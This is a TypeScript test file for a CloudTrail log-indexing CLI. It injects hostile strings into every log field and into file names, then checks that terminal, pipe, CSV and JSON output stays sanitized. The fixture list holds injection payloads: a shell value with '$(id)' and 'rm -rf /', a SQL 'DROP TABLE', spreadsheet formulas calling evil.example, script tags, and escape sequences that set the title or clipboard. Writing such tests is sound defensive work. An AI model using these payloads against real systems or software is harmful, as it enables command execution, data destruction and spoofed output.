import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { makeRecord, put, type CloudTrailRecord } from '../helpers/archive.js'
import { query } from '../helpers/cli-case.js'
import {
  find,
  index,
  inParallel,
  parseLines,
  recordText,
  run,
  startCommand,
  tempFolder,
  BIN,
  type Row,
  type Run,
} from '../helpers/cli.js'
import { hasPython } from '../helpers/oracle.js'

/** What an attacker can put into a user agent, a session name, a tag, an object key. */
const HOSTILE = {
  colour: '\u001b[31mred\u001b[0m',
  title: '\u001b]0;owned\u0007',
  clipboard: '\u001b]52;c;cm0gLXJm\u001b\\',
  link: '\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'C1 control': '\u009b2J\u0090q\u009c\u0085',
  'clear screen': '\u001bc\u001b[2J\u001b[H',
  'forged row': 'x\r\n2024-03-04T00:00:00Z  s3.amazonaws.com  Forged  root',
  'line ends': 'a\nb\rc\u2028d\u2029e\u000bf\u000cg',
  tabs: 'a\tb\t\tc',
  'back and delete': 'abc\b\b\bxyz\u007f',
  nul: 'left\u0000right',
  'right to left': '\u202egpj.exe\u202c',
  isolates: '\u2066left\u2069 \u2067right\u2069 \u2068first\u2069',
  marks: 'a\u200eb\u200fc\u061cd',
  'zero width': 'in\u200bvis\u200cib\u200dle\u2060\ufeff',
  'tag characters': 'hi\u{e0068}\u{e0069}\u{e007f}',
  'soft hyphen': 'a\u00adb\u180ec',
  'lone surrogate': 'high\ud83d low\udca5',
  formula: '=1+1',
  hyperlink: '=HYPERLINK("http://evil.example?"&A1,"click")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  'tab formula': '\t=1+1',
  'line formula': '\n=1+1',
  'space formula': ' =cmd|calc',
  'full-width formula': '\uff1d1+1',
  'drop table': "'); DROP TABLE event; --",
  'or true': `" OR "1"="1' OR '1'='1`,
  'like wildcards': '%_%\\_',
  backslash: 'ends with a backslash \\',
  'FTS operators': 'a AND b OR c NOT d NEAR(e f, 2)',
  'FTS column': 'body:secret {body}: ^start -minus',
  'FTS star': 'wild*card *',
  'FTS quote': 'un"balanced ""',
  'FTS brackets': '(((a) ] } {',
  html: `<script>alert(1)</script><img src=x onerror='alert("2")'>&amp;`,
  json: '"},{"eventName":"Forged","x":"\\u001b',
  shell: '$(id) `id` ; rm -rf / | cat && true',
  flags: '--help --version -rf',
  percent: '%s%n%x %%',
  emoji: '🔥 👩‍👩‍👧‍👦 🏳️‍🌈',
  combining: `z${'\u0301\u0302\u0303'.repeat(30)}`,
  wide: '東京支店 한국어 ｆｕｌｌ',
  long: 'long '.repeat(150),
  prototype: '__proto__',
} as const

/** U+E000 and above are private or special; everything here can act on a terminal, hide or reorder. */
const UNSAFE =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]/u

const ASKED: ReadonlySet<string> = new Set([
  'colour',
  'C1 control',
  'forged row',
  'tabs',
  'right to left',
  'zero width',
  'tag characters',
  'formula',
  'minus',
  'line formula',
  'full-width formula',
  'drop table',
  'or true',
  'like wildcards',
  'backslash',
  'FTS operators',
  'FTS column',
  'FTS star',
  'FTS quote',
  'FTS brackets',
  'json',
  'shell',
  'flags',
  'emoji',
  'wide',
  'long',
  'prototype',
])

const kinds = Object.keys(HOSTILE) as (keyof typeof HOSTILE)[]

interface Evil {
  readonly kind: string
  /** The value of every field. */
  readonly text: string
  /** What a user can type, and what the case stores in columns: no NUL, no lone surrogate. */
  readonly typed: string
  readonly record: CloudTrailRecord
}

const ALL_EVENTS = new RegExp(`^${kinds.length} events$`, 'm')
const ALL_EVENTS_AS_ROWS = new RegExp(`^${kinds.length} rows$`, 'm')

const EVIL: readonly Evil[] = kinds.map((kind, at) => {
  const text = `${HOSTILE[kind]} mark${at}x ${HOSTILE[kind]}`
  const name = (what: string): string => `${text} ${what}`
  const record = makeRecord(at, {
    userIdentity: {
      type: 'AssumedRole',
      principalId: name('principal'),
      arn: name('arn'),
      accountId: name('account'),
      accessKeyId: name('key'),
      userName: name('user'),
      invokedBy: name('invoker'),
      sessionContext: {
        sessionIssuer: {
          type: name('type'),
          userName: name('issuer'),
          arn: name('issuer arn'),
          principalId: name('issuer id'),
          accountId: text,
        },
        attributes: { mfaAuthenticated: name('mfa'), creationDate: name('date') },
      },
    },
    eventName: name('name'),
    eventSource: name('source'),
    awsRegion: name('region'),
    sourceIPAddress: name('address'),
    userAgent: text,
    errorCode: name('code'),
    errorMessage: name('message'),
    requestID: name('request'),
    eventID: name('event'),
    eventType: name('eventType'),
    eventCategory: name('category'),
    recipientAccountId: name('recipient'),
    sharedEventID: name('shared'),
    vpcEndpointId: name('endpoint'),
    requestParameters: { bucketName: `bucket-${at}`, key: text, [text]: text, nested: [{ deep: text }] },
    responseElements: { [name('key')]: text },
    resources: [{ ARN: `arn:aws:s3:::bucket-${at}/${text}`, type: name('resource type'), accountId: text }],
  })
  return { kind, text, typed: stored(text), record }
})

function stored(text: string): string {
  return text.toWellFormed().replaceAll('\u0000', '\u2400')
}

const EVER = ['--until', '9000-01-01'] as const
const COLUMNS = [
  'event_time',
  'event_source',
  'event_name',
  'aws_region',
  'recipient_account_id',
  'event_id',
  'request_id',
  'shared_event_id',
  'event_type',
  'event_category',
  'error_code',
  'error_message',
  'source_ip_address',
  'user_agent',
  'vpc_endpoint_id',
  'principal',
  'principal_type',
  'principal_arn',
  'principal_id',
  'principal_account_id',
  'user_name',
  'access_key_id',
  'session_issuer_arn',
  'session_name',
  'invoked_by',
  'mfa_authenticated',
  'source_path',
]

describe('hostile text in every field and in file names', () => {
  const root = tempFolder('hostile')
  const caseFile = path.join(tempFolder('case'), 'case.sqlite')
  const names = [
    'plain.json',
    'esc\u001b[31m\u202e.json',
    'line\nbreak\r.json',
    '=formula.json',
    `quote'".json`,
  ]
  let code: number | null
  let before: string
  beforeAll(async () => {
    const texts = EVIL.map(({ record }) => JSON.stringify(record))
    // Bad records too: details of problems quote what they found.
    const broken = '{"\u009b31m\u202eevil":1}'
    names.forEach((name, at) => {
      put(
        root,
        name,
        `{"Records":[${[...texts.filter((_, of) => of % names.length === at), broken].join(',')}]}`,
      )
    })
    put(root, 'bad\u001b[5m\nname.txt', 'not a log \u001b[31m')
    const indexed = await index([root], caseFile)
    code = indexed.code
    expect(indexed.totals.records).toMatchObject({
      events: EVIL.length,
      duplicates: 0,
      rejected: names.length,
    })
    before = sha256(caseFile)
  })

  /** Command, and what its answer has to hold: a command that shows nothing is harmless too. */
  const shows: readonly (readonly [string, readonly string[], RegExp])[] = [
    ['find as a table', ['find', 'window', ...EVER, '--limit', '1000'], ALL_EVENTS],
    [
      'find as a table of all columns',
      ['find', 'window', ...EVER, '--limit', '1000', '--columns', COLUMNS.join(',')],
      ALL_EVENTS,
    ],
    ['problems', ['problems'], /^bad-record +5 problems$/m],
    ['problems as a list', ['problems', '--list'], /^bad-record .*=formula\.json/m],
    ['info', ['info'], /^logical digest +[0-9a-f]{64}$/m],
    ['sql as a table', ['sql', 'SELECT * FROM events'], ALL_EVENTS_AS_ROWS],
    [
      'sql with hostile column names',
      ['sql', 'SELECT 1 AS "\u001b[31mred\u202e"'],
      /^_\[31mred_\n1\n1 row\n$/,
    ],
    ['show', ['show', EVIL[0]!.record['eventID'] as string], /^appearance 1 of 1: .*\n.*"eventVersion"/s],
  ]

  it('was indexed, with the bad records reported', () => {
    expect(code).toBe(3)
  })

  it.each(shows)('never reaches a terminal as a control or bidi character: %s', async (_, args, shown) => {
    const { out } = await inTerminal([...args, '--case', caseFile])
    expect(unsafe(out)).toEqual([])
    expect(out.replaceAll('\r\n', '\n')).toMatch(shown)
  })

  it.skipIf(!hasPython).each(['jsonl', 'json', 'csv'])(
    'never reaches a terminal as a control or bidi character: %s',
    async (format) => {
      const { out } = await inTerminal([
        'find',
        'window',
        ...EVER,
        '--format',
        format,
        '--case',
        caseFile,
        ...(format === 'csv' ? [] : ['--records']),
      ])
      expect(unsafe(out)).toEqual([])
    },
  )

  it.each(shows.filter(([name]) => name !== 'show'))(
    'is as harmless in a pipe: %s',
    async (_, args, shown) => {
      const { stdout, stderr } = await run([...args, '--case', caseFile])
      expect(unsafe(stdout + stderr)).toEqual([])
      expect(stdout + stderr).toMatch(shown)
    },
  )

  it('makes one table line per event, with any line ends in it', async () => {
    const { stdout } = await run(['find', 'window', ...EVER, '--limit', '1000', '--case', caseFile])
    expect(stdout.trimEnd().split('\n')).toHaveLength(EVIL.length + 1)
    expect(stdout).not.toMatch(/^2024-03-04T00:00:00Z {2}s3\.amazonaws\.com {2}Forged/m)
  })

  it('shows nothing hostile while and after it is indexed', async () => {
    const own = path.join(tempFolder('case'), 'case.sqlite')
    const { out } = await inTerminal(['index', root, '--case', own, '--quiet'])
    expect(unsafe(out)).toEqual([])
    const piped = await run(['index', root, '--case', path.join(tempFolder('case'), 'case.sqlite')])
    expect(unsafe(piped.stdout + piped.stderr)).toEqual([])
    // The bar may move the cursor; names and records have no part in it.
    const bar = await inTerminal(['index', root, '--case', path.join(tempFolder('case'), 'case.sqlite')])
    expect(bar.out).not.toMatch(/\u001b\[31m|\u202e|\u001b\[5m|\u001b\]/)
  })

  it('cannot turn a cell into a formula, nor one row into two', async () => {
    for (const args of [
      ['find', 'window', ...EVER],
      ['sql', 'SELECT * FROM events'],
      ['problems', '--list'],
      ['sql', 'SELECT * FROM event_resources'],
    ]) {
      const { stdout } = await run([...args, '--format', 'csv', '--case', caseFile])
      const rows = parseCsv(stdout)
      const widths = new Set(rows.map((row) => row.length))
      expect({ args, widths: widths.size }).toEqual({ args, widths: 1 })
      if (args[1] === 'window') expect(rows).toHaveLength(EVIL.length + 1)
      const formulas = rows
        .flat()
        .filter(
          (cell) =>
            /^[\s\u0000]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n]/u.test(cell) &&
            !/^-?\d+(?:\.\d+)?$/.test(cell),
        )
      expect({ args, formulas }).toEqual({ args, formulas: [] })
      expect({ args, unsafe: unsafe(stdout) }).toEqual({ args, unsafe: [] })
    }
  })

  it('comes back whole in jsonl and json, one event a line', async () => {
    const { stdout } = await run([
      'find',
      'window',
      ...EVER,
      '--format',
      'jsonl',
      '--records',
      '--case',
      caseFile,
    ])
    const lines = stdout.trimEnd().split('\n')
    expect(lines).toHaveLength(EVIL.length)
    const byId = new Map(lines.map((line) => [(JSON.parse(line) as Row).event_id, line]))
    for (const { kind, typed, record } of EVIL) {
      const line = byId.get(stored(record['eventID'] as string)) ?? ''
      expect({ kind, record: line === '' ? '' : recordText(line) }).toEqual({
        kind,
        record: JSON.stringify(record),
      })
      const row = JSON.parse(line) as Row
      expect(row).toMatchObject({
        user_agent: typed,
        event_name: `${typed} name`,
        event_source: `${typed} source`,
        error_code: `${typed} code`,
        error_message: `${typed} message`,
        source_ip_address: `${typed} address`,
        aws_region: `${typed} region`,
        request_id: `${typed} request`,
        access_key_id: `${typed} key`,
        principal_arn: `${typed} arn`,
      })
    }
    const whole = await run(['find', 'window', ...EVER, '--format', 'json', '--case', caseFile])
    expect(JSON.parse(whole.stdout)).toHaveLength(EVIL.length)
    const asked = await run(['sql', 'SELECT user_agent FROM events', '--format', 'jsonl', '--case', caseFile])
    expect(
      parseLines<{ user_agent: string }>(asked.stdout)
        .map((row) => row.user_agent)
        .sort(),
    ).toEqual(EVIL.map(({ typed }) => typed).sort())
  })

  /** What can be typed and could mean something: to SQL, FTS5, the shell, a pattern, a case fold. The others only look odd. */
  const typeable = EVIL.filter(({ kind }) => ASKED.has(kind))

  async function missed(ask: (evil: Evil) => readonly string[]): Promise<unknown[]> {
    const answers = await inParallel(typeable, async (evil) => {
      const args = ask(evil)
      const { code, stdout, stderr } = await run([
        'find',
        ...args.slice(0, 1),
        '--format',
        'jsonl',
        '--case',
        caseFile,
        ...args.slice(1),
      ])
      const ids = code === 0 ? parseLines<Row>(stdout).map((row) => row.event_id) : []
      const isRight = ids.length === 1 && ids[0] === stored(evil.record['eventID'] as string)
      return isRight && unsafe(stderr).length === 0
        ? []
        : [{ kind: evil.kind, code, ids: ids.length, stderr: stderr.slice(0, 200) }]
    })
    return answers.flat()
  }

  /** A star at the end asks for all that begin so; behind a backslash it is a star. */
  const literal = (value: string): string => value.replace(/\*$/, '\\*')

  it('finds its event when it is typed as a request ID, and with every filter', async () => {
    const wrong = await missed(({ typed }) => [
      'request',
      `--event=${typed} name`,
      `--service=${typed} source`,
      `--account=${typed} recipient`,
      `--region=${typed} region`,
      `--source-ip=${typed} address`,
      `--access-key=${typed} key`,
      `--error=${typed} code`,
      '--',
      `${typed} request`,
    ])
    expect(wrong).toEqual([])
  })

  it('finds its event when it is typed as a principal', async () => {
    expect(await missed(({ typed }) => ['principal', '--', literal(`${typed} arn`)])).toEqual([])
  })

  it('finds its event when it is typed as a resource', async () => {
    const wrong = await missed(({ record, text }) => {
      const { bucketName } = record['requestParameters'] as { bucketName: string }
      return ['resource', '--', literal(`arn:aws:s3:::${bucketName}/${text}`)]
    })
    expect(wrong).toEqual([])
  })

  it('finds its event when it is typed as text, and means nothing there', async () => {
    const asked = await missed(({ kind, text }) => ['text', '--', kind === 'long' ? text.slice(-30) : text])
    expect(asked).toEqual([])
  })

  it('finds nothing when one character of it is another', async () => {
    const rows = await inParallel(typeable.slice(0, 12), ({ typed }) =>
      find(caseFile, 'request', '--', `${typed} requesx`),
    )
    expect(rows.flat()).toEqual([])
  })

  it('shows each record exactly by its hostile eventID', async () => {
    const wrong = await inParallel(typeable.slice(0, 20), async ({ kind, record }) => {
      const { stdout } = await run(['show', '--case', caseFile, '--', record['eventID'] as string])
      return stdout === JSON.stringify(record) ? [] : [kind]
    })
    expect(wrong.flat()).toEqual([])
  })

  it('is refused or taken as text by the query language, never a bug', async () => {
    const codes = await inParallel(
      typeable.filter(({ kind }) => /FTS|drop|formula|quote|json|wide/.test(kind)),
      async ({ kind, typed }) => {
        const { code, stderr } = await run([
          'find',
          'text',
          '--match',
          '--case',
          caseFile,
          '--',
          typed.slice(0, 200),
        ])
        return { kind, ok: (code === 0 || code === 2) && unsafe(stderr).length === 0 }
      },
    )
    expect(codes.filter(({ ok }) => !ok)).toEqual([])
  })

  it.each([
    ['show', '\u001b[31mnothing\u202e'],
    ['find', 'request', '\u001b[31mnothing'],
    ['find', 'window', '--since', '\u001b[31myesterday'],
    ['find', 'window', '--since', '2024-01-01', '--columns', '\u001b[31mevil'],
    ['find', 'text', '--match', '"\u001b[31m'],
    ['sql', 'SELECT "\u001b[31m" FROM nothing'],
    ['info', '--case', '/no/such/\u001b[31mcase'],
    ['index', '--quiet', '/no/such/\u001b[31mfolder\u202e'],
    ['index', '--\u001b[31mflag'],
    ['problems', '--kind', '\u001b[31m'],
    ['\u001b[31mcommand'],
  ])('is not echoed raw by an error: %j', async (...args: string[]) => {
    const own = args.includes('--case') ? args : [...args.slice(0, 1), '--case', caseFile, ...args.slice(1)]
    const { out } = await inTerminal(own)
    expect(unsafe(out)).toEqual([])
  })

  it('changed nothing in the case', () => {
    expect(sha256(caseFile)).toBe(before)
    expect(query(caseFile, 'SELECT count(*) AS n FROM events')).toEqual([{ n: EVIL.length }])
  })
})

/** On a terminal of 200 columns, made by Python; stdout and stderr come together. */
async function inTerminal(args: readonly string[]): Promise<{ run: Run; out: string }> {
  if (!hasPython) return { run: await run(args), out: 'skipped: python3 is missing, so there is no terminal' }
  const script = `import fcntl,os,pty,struct,sys,termios
def read(fd):
    fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 50, 200, 0, 0)) if not done else None
    done.append(1)
    return os.read(fd, 65536)
done = []
sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:], read)))`
  const result = await startCommand('python3', ['-c', script, process.execPath, BIN, ...args], {
    env: { TERM: 'xterm-256color' },
  }).done
  // The terminal itself turns line feeds into CR LF.
  return { run: result, out: result.stdout.replaceAll('\r\n', '\n') }
}

function unsafe(text: string): string[] {
  return text
    .split('\n')
    .filter((line) => UNSAFE.test(line))
    .map((line) =>
      JSON.stringify(line.slice(0, 300)).replaceAll(
        /[^\x20-\x7e]/g,
        (c) => `\\u{${c.codePointAt(0)!.toString(16)}}`,
      ),
    )
}

function sha256(file: string): string {
  return createHash('sha256').update(readFileSync(file)).digest('hex')
}

/** RFC 4180. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const character = text[at]!
    if (quoted) {
      if (character !== '"') cell += character
      else if (text[at + 1] === '"') cell += text[++at]!
      else quoted = false
    } else if (character === '"') quoted = true
    else if (character === ',' || character === '\n') {
      row.push(cell)
      cell = ''
      if (character === ',') continue
      rows.push(row)
      row = []
    } else cell += character
  }
  return rows
}

if (!hasPython) console.log('skipped: python3 is missing, so nothing is shown on a terminal')
